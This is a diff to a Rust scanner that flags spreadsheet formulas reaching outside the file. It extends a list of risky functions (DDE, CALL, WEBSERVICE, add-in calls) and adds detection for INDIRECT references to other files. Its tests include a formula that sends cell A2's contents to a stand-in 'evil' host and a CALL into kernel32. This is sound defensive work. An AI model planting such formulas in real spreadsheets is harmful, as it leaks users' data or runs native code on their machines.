@@ -11,13 +11,13 @@ use crate::{
 
 /// Functions that send or fetch something, or run something, in Excel, LibreOffice or Google Sheets; in order.
 /// `HYPERLINK` does so when a person clicks it, and only with an address that leads outside.
-const REQUESTS: [&str; 35] = [
-    "CALL", "COPILOT", "CUBEKPIMEMBER", "CUBEMEMBER", "CUBEMEMBERPROPERTY", "CUBERANKEDMEMBER",
-    "CUBESET", "CUBESETCOUNT", "CUBEVALUE", "DDE", "DETECTLANGUAGE", "EXEC", "EXECUTE",
-    "GOOGLEFINANCE", "GOOGLETRANSLATE", "HYPERLINK", "IMAGE", "IMPORTCSV", "IMPORTDATA",
-    "IMPORTFEED", "IMPORTHTML", "IMPORTRANGE", "IMPORTTEXT", "IMPORTXML", "INITIATE", "POKE", "PY",
-    "REGISTER", "REGISTER.ID", "REQUEST", "RTD", "SQL.REQUEST", "STOCKHISTORY", "TRANSLATE",
-    "WEBSERVICE",
+const REQUESTS: [&str; 37] = [
+    "AI", "CALL", "COPILOT", "CUBEKPIMEMBER", "CUBEMEMBER", "CUBEMEMBERPROPERTY",
+    "CUBERANKEDMEMBER", "CUBESET", "CUBESETCOUNT", "CUBEVALUE", "DDE", "DETECTLANGUAGE", "EXEC",
+    "EXECUTE", "GOOGLEFINANCE", "GOOGLETRANSLATE", "HYPERLINK", "IMAGE", "IMPORTCSV", "IMPORTDATA",
+    "IMPORTFEED", "IMPORTHTML", "IMPORTRANGE", "IMPORTTEXT", "IMPORTXML", "INITIATE", "MSQUERY",
+    "POKE", "PY", "REGISTER", "REGISTER.ID", "REQUEST", "RTD", "SQL.REQUEST", "STOCKHISTORY",
+    "TRANSLATE", "WEBSERVICE",
 ];
 
 /// Marks that files put before names of functions.
@@ -27,6 +27,9 @@ const MARKS: [&str; 5] = [
 
 /// The mark of a function that is given to another one and not called here.
 const FUNCTION_VALUE: &str = "_xleta.";
+
+/// The mark of a function of an add-in, which may do anything.
+const ADD_IN: &str = "_xll.";
 
 /// How often names that use names are followed.
 const ROUNDS: usize = 64;
@@ -100,6 +103,9 @@ impl Scope {
         all: &[FormulaToken<'_>],
     ) -> Option<String> {
         let lower = name.to_lowercase();
+        if lower.contains(ADD_IN) {
+            return Some(format!("the add-in function {name}"));
+        }
         let mut plain = lower.as_str();
         while let Some(rest) = MARKS.iter().find_map(|mark| plain.strip_prefix(mark)) {
             plain = rest;
@@ -113,6 +119,12 @@ impl Scope {
         // the function itself, handed to another one.
         let is_function =
             is_called || lower.contains(FUNCTION_VALUE) || !self.names.contains(&lower);
+        if is_function && plain == "INDIRECT" {
+            let mut file = texts(all).filter(|text| names_file(text));
+            return file
+                .next()
+                .map(|file| format!("INDIRECT to {}", cut(&file)));
+        }
         if !is_function || REQUESTS.binary_search(&plain.as_str()).is_err() {
             let is_outward = self.outward.contains(&lower);
             return is_outward.then(|| format!("the name {name}, which reaches outside"));
@@ -123,12 +135,7 @@ impl Scope {
             };
             return is_outward_address(&address).then(|| format!("HYPERLINK to {}", cut(&address)));
         }
-        let addresses: Vec<String> = all
-            .iter()
-            .filter_map(|token| match token {
-                FormulaToken::Text(text) => Some(unquoted(text, '"')),
-                _ => None,
-            })
+        let addresses: Vec<String> = texts(all)
             .filter(|text| text.contains("://") || text.starts_with(r"\\"))
             .map(|text| cut(&text))
             .collect();
@@ -181,6 +188,20 @@ pub(super) fn is_outward_address(address: &str) -> bool {
     let lower = address.trim().to_lowercase();
     let is_inside = lower.starts_with('#') && !lower.contains(['[', '\\', '/']);
     !(lower.is_empty() || is_inside || lower.starts_with("mailto:"))
+}
+
+/// The texts of a formula.
+fn texts<'a>(all: &'a [FormulaToken<'a>]) -> impl Iterator<Item = String> + 'a {
+    all.iter().filter_map(|token| match token {
+        FormulaToken::Text(text) => Some(unquoted(text, '"')),
+        _ => None,
+    })
+}
+
+/// Whether a reference that is made of text names another file, which LibreOffice opens.
+fn names_file(text: &str) -> bool {
+    let inner = text.trim_start_matches('\'');
+    inner.contains("://") || inner.contains('\\') || inner.starts_with('[')
 }
 
 /// The first argument of a call, if it is one text and nothing else.
@@ -280,6 +301,11 @@ mod tests {
             "HYPERLINK(\"file:///c:/x\")",
             "RTD(\"a\",,\"b\")",
             "STOCKHISTORY(\"MSFT\",1)",
+            "_xll.BQL(A2)",
+            "AI(A2)",
+            "MSQUERY(\"x\")",
+            "INDIRECT(\"'http://evil/\"&A2&\"'#$S.A1\")",
+            "INDIRECT(\"'[b.xlsx]S'!A1\")",
             "IF(TRUE,1,CALL(\"kernel32\",\"x\",\"J\"))",
         ] {
             assert!(!reach(formula).is_empty(), "{formula}");
@@ -308,6 +334,8 @@ mod tests {
             "A1&\"|\"&B1",
             "IF(A1=\"http://x\",1,2)",
             "Rate*2",
+            "INDIRECT(\"Table1[Units]\")",
+            "INDIRECT(\"'\"&A1&\"'!B\"&ROW())",
         ] {
             assert_eq!(reach(formula), Vec::<String>::new(), "{formula}");
         }
